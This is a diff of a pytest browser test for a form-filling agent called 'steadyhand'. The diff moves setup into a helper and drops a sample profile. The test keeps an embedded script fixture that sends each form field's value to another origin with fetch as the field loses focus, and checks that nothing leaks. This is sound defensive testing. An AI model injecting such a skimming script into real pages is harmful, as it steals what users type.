@@ -7,15 +7,12 @@ from pathlib import Path
 
 import pytest
 
-from steadyhand import Settings, apply
-from steadyhand.adapters.documents.profile_file import Profile
-from steadyhand.core.job.profile import Name
 from steadyhand.testing import ScriptedHuman
 
+from .rig import applied
 from .site import Hostile, form, hostile
 
 pytestmark = pytest.mark.browser
-PERSON = Profile(Name("Orla", "Brandt"), "orla@brandt.example")
 TELLING = """<script>
 document.addEventListener("focusout", ({ target }) => {
   fetch("%(to)s/upload/fetch", { method: "POST", mode: "no-cors", body: target.value });
@@ -45,12 +42,7 @@ async def test_a_page_that_tells_as_it_is_filled_tells_nobody_but_where_somebody
     site, other = sites
     site.page = form(TELLING % {"to": other.origin})
     human = ScriptedHuman({"confirm_submit": True, "step_grant": allows})
-    receipt = await apply(
-        f"{site.origin}/job",
-        profile=PERSON,
-        human=human,
-        settings=Settings(home=tmp_path, allow_origins=(site.origin,), headless=True),
-    )
+    receipt = await applied(site, tmp_path, human)
     assert receipt.status == status, receipt.errors
     assert [posted["mail"] for posted in site.posted] == sent
     assert (other.uploaded, other.asked) == ([], [])
